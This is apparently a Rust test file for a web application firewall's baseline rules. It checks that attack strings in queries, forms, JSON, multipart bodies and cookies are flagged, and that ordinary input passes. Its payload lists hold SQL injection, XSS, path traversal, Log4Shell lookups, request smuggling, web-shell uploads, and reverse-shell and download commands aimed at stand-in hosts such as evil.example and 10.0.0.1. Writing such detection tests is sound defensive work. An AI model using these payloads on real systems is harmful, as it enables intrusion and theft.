//! The built-in rules: attacks in every place and writing, and what apps get from ordinary people.

use bartizan_waf::{Fed, Phase, Progress, RuleSet, Start, Transaction, baseline};
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;

/// One request.
#[derive(Clone, Debug)]
struct Request {
    method: &'static str,
    version: &'static str,
    uri: String,
    fields: Vec<(&'static str, String)>,
    body: Vec<u8>,
}

impl Request {
    fn get(uri: impl Into<String>) -> Self {
        Self { method: "GET", version: "HTTP/1.1", uri: uri.into(), fields: Vec::new(), body: Vec::new() }
    }

    fn post(content_type: &str, body: impl Into<Vec<u8>>) -> Self {
        let fields = vec![("Content-Type", content_type.to_owned())];
        Self { method: "POST", version: "HTTP/1.1", uri: "/app/save".to_owned(), fields, body: body.into() }
    }

    fn with(mut self, name: &'static str, value: impl Into<String>) -> Self {
        self.fields.push((name, value.into()));
        self
    }
}

struct Engine(Transaction);

impl Engine {
    fn new() -> Self {
        Self(Transaction::new(Arc::new(rules())))
    }

    /// The rules that match, apart from the verdict, and whether the request would be refused.
    fn judge(&mut self, request: &Request) -> (Vec<u64>, bool) {
        let local = IpAddr::V4(Ipv4Addr::LOCALHOST);
        let transaction = &mut self.0;
        transaction.begin(&Start { client: (local, 41_234), server: (local, 80), id: "1", now: 0 });
        transaction.request_line(request.method.as_bytes(), request.uri.as_bytes(), request.version.as_bytes());
        let length = request.body.len().to_string();
        let usual = [
            ("Host", "app.example"),
            ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
            ("Accept", "*/*"),
        ];
        for (name, value) in usual {
            if !request.fields.iter().any(|(given, _)| *given == name) {
                transaction.request_header(name.as_bytes(), value.as_bytes());
            }
        }
        for (name, value) in &request.fields {
            transaction.request_header(name.as_bytes(), value.as_bytes());
        }
        if request.method != "GET" {
            transaction.request_header(b"Content-Length", length.as_bytes());
        }
        run(transaction, Phase::RequestHeaders);
        if transaction.wants_request_body() {
            let _: Fed = transaction.request_body(&request.body);
        }
        run(transaction, Phase::RequestBody);
        let verdict = transaction.verdict();
        let ids = verdict.matches.iter().map(|found| found.id).filter(|id| *id < 7_109_000).collect();
        (ids, verdict.watched.is_some() || verdict.refusal.is_some())
    }
}

fn run(transaction: &mut Transaction, phase: Phase) {
    transaction.begin_phase(phase);
    while transaction.run(u64::MAX) == Progress::More {}
}

fn rules() -> RuleSet {
    baseline::rules().unwrap_or_else(|errors| panic!("{errors}"))
}

fn encoded(text: &str) -> String {
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}

/// A value in each place and writing in which apps get it.
fn everywhere(value: &str) -> Vec<(&'static str, Request)> {
    let once = encoded(value);
    let json = serde_json::json!({ "filter": { "name": [value] }, "page": 1 }).to_string();
    let multipart = format!("--B\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{value}\r\n--B--\r\n");
    vec![
        ("query", Request::get(format!("/list?page=1&q={once}&sort=name"))),
        ("query, encoded twice", Request::get(format!("/list?q={}", encoded(&once)))),
        ("form", Request::post("application/x-www-form-urlencoded", format!("id=7&text={once}"))),
        ("json", Request::post("application/json", json)),
        ("multipart", Request::post("multipart/form-data; boundary=B", multipart)),
        ("name", Request::get(format!("/list?{once}=1"))),
        ("cookie", Request::get("/").with("Cookie", format!("session=abc; last={once}"))),
    ]
}

#[test]
fn attacks_are_recognised_in_every_place_and_writing() {
    let mut engine = Engine::new();
    let mut missed = Vec::new();
    let mut count = 0;
    for attack in ATTACKS {
        for (place, request) in everywhere(attack) {
            count += 1;
            if !engine.judge(&request).1 && !MISSED.contains(&(*attack, place)) {
                missed.push(format!("{place}: {attack}"));
            }
        }
    }
    for request in attacking_requests() {
        count += 1;
        if !engine.judge(&request).1 {
            missed.push(format!("{request:?}"));
        }
    }
    assert!(missed.is_empty(), "{} of {count} missed:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn ordinary_requests_pass() {
    let mut engine = Engine::new();
    let mut wrong = Vec::new();
    let mut count = 0;
    for value in ORDINARY {
        for (place, request) in
            everywhere(value).into_iter().filter(|(place, _)| *place != "name" && *place != "query, encoded twice")
        {
            count += 1;
            let (ids, is_refused) = engine.judge(&request);
            if is_refused {
                wrong.push(format!("{place}: {value}: {ids:?}"));
            }
        }
    }
    for request in ordinary_requests() {
        count += 1;
        let (ids, is_refused) = engine.judge(&request);
        if is_refused {
            wrong.push(format!("{ids:?}: {request:?}"));
        }
    }
    assert!(wrong.is_empty(), "{} of {count} refused:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn each_rule_recognises_something() {
    let mut engine = Engine::new();
    let mut seen = std::collections::BTreeSet::new();
    for attack in ATTACKS {
        for (_, request) in everywhere(attack) {
            seen.extend(engine.judge(&request).0);
        }
    }
    for request in attacking_requests() {
        seen.extend(engine.judge(&request).0);
    }
    let rules = rules();
    let unseen: Vec<u64> = rules
        .rules()
        .iter()
        .map(|rule| rule.id)
        .filter(|id| (7_101_000..7_108_000).contains(id) && !seen.contains(id))
        .collect();
    assert!(unseen.is_empty(), "{unseen:?}");
}

/// Attacks that a place or writing hides, with the place.
const MISSED: &[(&str, &str)] = &[];

/// What attackers send as a value.
const ATTACKS: &[&str] = &[
    // SQL
    "1' OR '1'='1",
    "' or 1=1-- -",
    "admin'--",
    "admin' #",
    "1 AND 1=1",
    "1) or (1=1",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "-1 UNION SELECT 1,2,3",
    "-1' UNION ALL SELECT NULL,NULL,concat(user(),0x3a,version())-- ",
    "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    "1'/**/union/**/select/**/1,2#",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1",
    "1' AND SLEEP(5)-- -",
    "1;WAITFOR DELAY '0:0:5'--",
    "1' || pg_sleep(5)--",
    "1 AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)",
    "1' AND extractvalue(1,concat(0x7e,version()))-- -",
    "1'; DROP TABLE users; --",
    "'; EXEC xp_cmdshell('dir'); --",
    "' UNION SELECT load_file('/etc/passwd')#",
    "1' order by 10-- -",
    "1' and (select substr(table_name,1,1) from information_schema.tables limit 1)='a",
    "\" or \"\"=\"",
    "1' or 'x' like 'x",
    "'||(select user from dual)||'",
    // script
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert('x')>",
    "\"><script>alert(document.cookie)</script>",
    "\" onmouseover=\"alert(1)",
    "' onfocus=alert(1) autofocus='",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "javascript:alert(document.domain)",
    "<iframe srcdoc=\"<p>x\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<details open ontoggle=alert(1)>",
    "';alert(1)//",
    "\"-alert(1)-\"",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"width: expression(alert(1))\">",
    "<x @click=\"constructor.constructor('alert(1)')()\">",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "';document.location='https://evil.example/?'+document.cookie//",
    "data:text/html,<h1>x</h1>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    // files
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/shadow",
    "file:///etc/hosts",
    "php://filter/convert.base64-encode/resource=index.php",
    "phar://uploads/x.jpg",
    "/proc/self/environ",
    "C:\\boot.ini",
    "../../../../../../var/log/apache2/access.log",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    // commands
    "; cat /etc/passwd",
    "| id",
    "`whoami`",
    "$(id)",
    "127.0.0.1; ls -la",
    "127.0.0.1 && cat /etc/passwd",
    "x; wget http://evil.example/x.sh",
    "|| ping -c 10 127.0.0.1",
    "; sleep 10",
    "/bin/sh -i",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nc -e /bin/sh 10.0.0.1 4444",
    ";cat${IFS}/etc/passwd",
    "{cat,/etc/passwd}",
    "; c'a't /etc/pa\"ss\"wd",
    "powershell -enc SQBFAFgA",
    "cmd /c dir",
    "& whoami",
    // code
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
    "${j${env:X:-n}di:dns://evil.example}",
    "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{config.__class__.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'])}",
    "<?php system($_GET['c']); ?>",
    "<?= `id` ?>",
    "eval($_POST['x'])",
    "phpinfo()",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "require('child_process').exec('id')",
    "process.mainModule.require('fs')",
    "__import__('os').system('id')",
    "!!python/object/apply:os.system ['id']",
    "<!--#exec cmd=\"id\" -->",
    "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    "*)(uid=*))(|(uid=*",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "http://abc123.oast.fun/x",
];

/// What attackers do outside of values.
fn attacking_requests() -> Vec<Request> {
    let get = Request::get;
    let xml = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>";
    let upload = |name: &str| {
        let body =
            format!("--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\nx\r\n--B--\r\n");
        Request::post("multipart/form-data; boundary=B", body)
    };
    let mut trace = get("/");
    trace.method = "TRACE";
    let mut future = get("/");
    future.version = "HTTP/9.9";
    vec![
        trace,
        future,
        get("/").with("Host", "a.example").with("Host", "b.example"),
        get("/").with("Content-Length", "5").with("Transfer-Encoding", "chunked"),
        get("/").with("Content-Length", "+5"),
        get("/").with("Content-Length", "5").with("Content-Length", "6"),
        get("/").with("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21"),
        Request::post("text/html; charset=utf-8; charset=utf-7", "x"),
        Request::post("application/x-www-form-urlencoded; charset=utf-7", "x=1"),
        Request::post("application/x-www-form-urlencoded; charset=ibm037", "x=1"),
        get("/a%00.php"),
        get("/?u=x%0d%0aSet-Cookie:%20a=b"),
        Request::post("application/x-www-form-urlencoded", "email=a%40b.example%0ABcc:%20c%40d.example"),
        Request::post("application/json", "{\"a\":"),
        get("/..%c0%af..%c0%afetc/x"),
        get("/").with("User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)"),
        get("/").with("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        get("/.git/config"),
        get("/.env"),
        get("/wp-config.php.bak"),
        get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
        get("/actuator/heapdump"),
        get("/static/../../../etc/passwd"),
        get("/static/%252e%252e/%252e%252e/etc/passwd"),
        get("/a/..;/manager/html"),
        get("/download?file=/etc/passwd%00.png"),
        upload("shell.php"),
        upload("shell.php.jpg.phtml"),
        upload("x.jsp;.png"),
        upload("../../x.png/../../../a"),
        get("/").with("User-Agent", "() { :; }; /bin/bash -c 'id'"),
        get("/").with("X-Api-Version", "${jndi:ldap://evil.example/a}"),
        get("/").with("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
        get("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
        get("/?__proto__[admin]=1"),
        Request::post("application/json", r#"{"__proto__":{"admin":true}}"#),
        Request::post("application/json", r#"{"user":{"$ne":null},"password":{"$ne":null}}"#),
        get("/?user[$ne]=x&password[$regex]=.*"),
        Request::post("application/xml", xml),
        Request::post("application/xml", "<a b=\"1' OR '1'='1\"/>"),
        Request::post("application/xml", "<a><![CDATA[<script>alert(1)</script>]]></a>"),
        get("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system"),
        get("/search?q=%3Csvg%3E%3Cuse%20href=%22data:image/svg+xml,x%22%3E"),
        get("/?next=%253Cscript%253Ealert(1)"),
    ]
}

/// What ordinary people send as a value.
const ORDINARY: &[&str] = &[
    "O'Brien",
    "D'Angelo & Söhne; Zürich",
    "Conan O'Neill or Shaquille O'Neal",
    "Jean-Luc d'Arc -- Paris",
    "Robert'); the poet",
    "Smith; John",
    "1 + 1 = 2",
    "a = b and c = d",
    "rock 'n' roll",
    "It's 5 o'clock -- isn't it?",
    "Select the best union for your family from our list",
    "The union will select a new chair from its members.",
    "Please drop the table off at 5; the order by mail is fine",
    "I'd like 2 or 3 of those, or 4 if they're cheap",
    "price < 100 && rating > 4",
    "C:\\Users\\Anna\\Documents\\letter.docx",
    "../images/logo.png",
    "see /etc for details and /var/www too",
    "https://example.com/a?b=c&d=e#f",
    "https://example.com/wiki/Cross-site_scripting?id=1&q=script",
    "//cdn.example.com/lib.js",
    "mailto:anna@example.com?subject=Hello",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
    "$100 (50% off!) #sale @home",
    "{{ user.name }}, welcome!",
    "Dear {name}, your code is ${code}",
    "<p>Hello <b>world</b>, this is <a href=\"https://example.com\">a link</a>.</p>",
    "<p style=\"text-align: center;\"><span style=\"color: #ff0000;\">Red</span></p>",
    "<img src=\"/media/cat.jpg\" alt=\"A cat\" width=\"300\" style=\"float: left\">",
    "<table class=\"wp\"><tr><td colspan=2>Cell</td></tr></table><hr/><!-- more -->",
    "<h1 id=\"on-the-road\">On the road</h1><p>once = twice</p>",
    "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
    "<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/x\" allowfullscreen></iframe>",
    "for (let i = 0; i < n; i++) { total += a[i]; }",
    "def f(x):\n    return x if x > 0 else -x\n\nprint(f(3))",
    "How do I write `SELECT name FROM users WHERE id = 3` in Django?",
    "SELECT * FROM orders o JOIN users u ON u.id = o.user_id WHERE o.total > 100 ORDER BY o.date",
    "Run `pip install django` and then `python manage.py migrate`.",
    "To list files use ls -la, then cd into the folder and make it.",
    "git commit -m \"fix: it's done\"; git push",
    "#include <stdio.h>\nint main(void) { printf(\"hi\\n\"); return 0; }",
    "x -> x * 2 and y => y + 1",
    "SELECT; INSERT; or UPDATE? I can't decide which one to learn first.",
    "(a OR b) AND NOT c",
    "title:\"big data\" AND year:[2010 TO 2020]",
    "name eq 'Milk' and price lt 2.55",
    "5' 11\" tall, size 10\"",
    "50% -- 60%",
    "?!...;-) :-P <3",
    "Tom & Jerry | cats; dogs",
    "eval is evil; never use it",
    "alert the team and confirm the date (Monday)",
    "on = off; online = true; onset = 5",
    "Ctrl+Alt+Del; cmd+C",
    "wget and curl are tools to fetch files",
    "[link](https://example.com \"Title\") and ![img](a.png)",
    "- item 1\n- item 2\n\n> quote\n\n```js\nconst a = 1;\n```",
    "日本語のテキスト、これは「普通」です。",
    "Привет; как дела? 'Хорошо' -- спасибо",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=",
    "550e8400-e29b-41d4-a716-446655440000",
    "2024-01-01T00:00:00Z/2024-12-31T23:59:59Z",
    "=SUM(A1:A3)*2",
    "true",
    "-1",
    "",
];

/// Requests of ordinary apps.
fn ordinary_requests() -> Vec<Request> {
    let graphql = r#"{"query":"query Q($id: ID!, $n: Int = 10) { user(id: $id) { name posts(first: $n, where: {title: {_eq: \"a\"}}) { edges { node { id ... on Post { title } } } } } }","variables":{"id":"1","n":5},"operationName":"Q"}"#;
    let upload = |name: &str| {
        let body = format!(
            "--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: image/png\r\n\r\n\u{89}PNG\r\n\u{1a}\n\0\0\r\n--B--\r\n"
        );
        Request::post("multipart/form-data; boundary=B", body)
    };
    let method = |method: &'static str, mut request: Request| {
        request.method = method;
        request
    };
    vec![
        Request::get("/"),
        Request::get("/products/list.html?category=shoes&size=42&color=dark%20red&sort=-price"),
        Request::get("/search?q=%27tis%20the%20season"),
        Request::get("/a/b/../c.css"),
        Request::get("/wp-admin/load-scripts.php?c=1&load%5Bchunk_0%5D=jquery-core,jquery-migrate"),
        Request::get("/api/items?filter%5Bname%5D=a&filter%5Bage%5D%5B%24gte%5D=3&$select=id,name&$top=5"),
        Request::get("/?utm_source=x&utm_campaign=a|b&gclid=Cj0KCQjw-abc_def"),
        Request::get("/?redirect_uri=https%3A%2F%2Fapp.example%2Fcallback%3Fa%3Db&scope=openid+profile&state=a%3Db"),
        Request::get("/.well-known/acme-challenge/abc"),
        Request::get("/.well-known/security.txt"),
        Request::get("/").with("Cookie", "a=\"x y\"; _ga=GA1.2.3.4; prefs=%7B%22a%22%3A1%7D; t=s%3Aabc.def%2B"),
        Request::get("/").with("Referer", "https://www.google.com/search?q=how+to+select+a+union+plan"),
        Request::get("/").with("User-Agent", "curl/8.5.0"),
        Request::get("/")
            .with("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        Request::get("/video.mp4").with("Range", "bytes=0-"),
        Request::post("application/json", graphql),
        Request::post("application/json", r#"{"query":"{ __schema { types { name } } }"}"#),
        Request::post(
            "application/json; charset=utf-8",
            r#"{"items":[{"id":1,"name":"O'Brien","tags":[]},{"id":2,"note":"a -- b; c"}],"ok":true,"n":null}"#,
        ),
        Request::post("application/json", r#"[{"op":"replace","path":"/a/b","value":"<b>x</b>"}]"#),
        Request::post(
            "application/x-www-form-urlencoded",
            "csrfmiddlewaretoken=abcDEF123&username=anna&password=p%40ss%27w0rd%21%23%24&next=%2F",
        ),
        Request::post(
            "application/x-www-form-urlencoded",
            "subject=Hello&message=Hi%0D%0ATo%3A+all%0D%0AThanks%0D%0A--%0D%0AAnna",
        ),
        Request::post(
            "application/xml",
            "<?xml version=\"1.0\"?><order id=\"7\"><name>O'Brien &amp; Co</name></order>",
        ),
        Request::post(
            "text/xml; charset=utf-8",
            "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>",
        ),
        Request::post("application/octet-stream", vec![0, 1, 2, 255, b'\'', b'=', b'<']),
        Request::post("text/plain", "just a note; it's fine -- really"),
        method("PUT", Request::post("application/json", r#"{"a":1}"#)),
        method("DELETE", Request::get("/api/items/7")),
        method("PATCH", Request::post("application/merge-patch+json", r#"{"a":null}"#)),
        method("OPTIONS", Request::get("/api/items").with("Origin", "https://app.example")),
        method("HEAD", Request::get("/")),
        upload("photo.png"),
        upload("O'Brien; résumé (final) v2.pdf"),
        upload("my.php.notes.txt"),
        upload("..hidden & odd [1] #2 {x}.tar.gz"),
    ]
}
